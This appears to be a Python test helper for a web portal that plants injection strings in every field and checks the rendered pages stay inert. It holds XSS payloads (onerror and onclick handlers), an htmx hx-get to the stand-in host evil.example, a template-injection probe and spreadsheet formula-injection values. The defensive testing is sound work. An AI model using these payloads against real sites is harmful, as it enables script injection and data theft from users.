"""Names that want to be more than names, in every field that a source or a user fills."""

from __future__ import annotations

from dataclasses import dataclass, replace
from io import BytesIO
from typing import Any

from PIL import Image
from sqlalchemy import update

from portal.models import Batch, DataSource
from portal.services.sealing import seal_step
from tests.portal.fake_source import make_document, make_file
from tests.portal.ledger_scene import failed, stored
from tests.portal.views.html_page import Node
from tests.portal.views.page_scene import Content, PageScene

#: Ends an attribute and an element, and begins others; a template's expression; htmx's attributes.
MARKUP = """'"><img src=x onerror=zz9()></script><b hx-get=//evil.example>{{7*7}}{% raw %}"""
#: The tail of what a field may hold, so that each of them is told apart.
SHORT = "\"'><i onclick=zz9()>{{7*7}}"
FORMULAS = ("=1+1", "+1", "-1+1", "@SUM(A1)", "\t=1", "＝1+1", "＋1", "－1", "＠a")


def _png() -> bytes:
    out = BytesIO()
    Image.new("RGB", (60, 40), "navy").save(out, "PNG")
    return out.getvalue()


@dataclass(frozen=True)
class Planted:
    """What lies there: a batch, and an archived document of it."""

    batch_no: str
    document_id: int
    file_id: int


def plant(scene: PageScene, word: str = MARKUP, *, name: str = "") -> Planted:
    """A source, a batch with an archived and a failed document, all of whose texts are ``word``."""
    ledger_scene = scene.ledger_scene
    texts: dict[str, Any] = dict.fromkeys(
        ("bill_no", "bill_type_name", "org_name", "applicant"), word
    )
    codes: dict[str, Any] = dict.fromkeys(("bill_type_code", "org_code"), word[:60])
    document = make_document(
        0, image_no=f"A{word}"[:128], resource=word[:60], extra={word: [word]}, **texts, **codes
    )
    file = make_file(0, 1, file_id=word[:120], name=name or f"{word}.png", suffix="png")
    other = make_document(1, image_no=f"B{word}"[:128], **texts, **codes)
    batch_id = ledger_scene.listed_batch([replace(document, files=(file,)), other])
    good, bad = sorted(ledger_scene.claim(batch_id), key=lambda claim: claim.document_id)
    kept = scene._keep(f"{good.folder}/01.png", word[:120], Content("x", _png(), "png"))
    brought = replace(stored(good), files=(kept,))
    ledger_scene.settle(batch_id, brought, failed(bad, "FILE_CORRUPT", detail=word))
    with scene.portal.ledger.write() as session:
        session.execute(update(DataSource).values(name=word[:64], client_id=word))
        session.execute(update(Batch).values(created_by=word[:80], org_codes=[word]))
    seal_step(scene.portal.ledger, scene.portal.seal_key, now=ledger_scene.now)
    found = ledger_scene.document(document.image_no)
    return Planted(
        ledger_scene.batch(batch_id).batch_no, found.id, ledger_scene.files(found.id)[0].id
    )


def assert_harmless(root: Node, where: str) -> None:
    """Nothing of it became an element or an attribute, and no address leads elsewhere."""
    for node in root.walk():
        assert not [name for name in node.attributes if name.startswith("on")], (where, node)
        assert node.tag not in ("i", "b") or "hx-get" not in node.attributes, (where, node)
        assert node.get("src") != "x", (where, node)
        for name in ("href", "src", "action", "formaction", "hx-get", "hx-post"):
            target = node.get(name)
            assert not target.startswith("//"), (where, node)
            assert ":" not in target.split("/")[0].split("?")[0], (where, node)
    assert ">49" not in root.text, where
